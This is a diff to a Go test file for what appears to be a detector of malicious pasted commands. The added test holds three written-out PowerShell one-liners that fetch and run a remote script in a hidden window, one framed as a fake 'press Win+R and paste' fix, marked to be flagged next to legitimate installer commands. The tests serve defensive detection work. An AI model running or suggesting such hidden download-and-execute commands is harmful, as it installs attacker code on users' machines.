@@ -117,3 +117,21 @@ func TestForgeLibraryNoted(t *testing.T) {
 		"https://git.free-robux-tools.com/team/wallet.js",
 	})
 }
+
+// TestHiddenWindowCommand (rev28): a pasted command that fetches and
+// runs what a site serves in a hidden PowerShell window (-w hidden,
+// -WindowStyle Hidden, -W H) is run out of sight, as fake checks and
+// "fixes" run theirs, whatever the site's name reads as: the first three
+// were allowed on 52b7f81 (an install.ps1 on a site the link model reads
+// as plain is noted as a project's installer). A project's one-liner
+// with no hidden window is read as before.
+func TestHiddenWindowCommand(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{`to fix the error press Win+R and paste: powershell -w hidden -c "irm https://hollowpine.net/install.ps1 | iex"`, true},
+		{`powershell -WindowStyle Hidden -Command "irm https://hollowpine.net/hollowpine-install.ps1 | iex"`, true},
+		{`powershell -W H -nop -c "irm https://hollowpine.net/install.ps1 | iex"`, true},
+		{`open PowerShell and paste: irm https://astral.sh/uv/install.ps1 | iex`, false},
+		{`install uv: powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"`, false},
+	})
+}
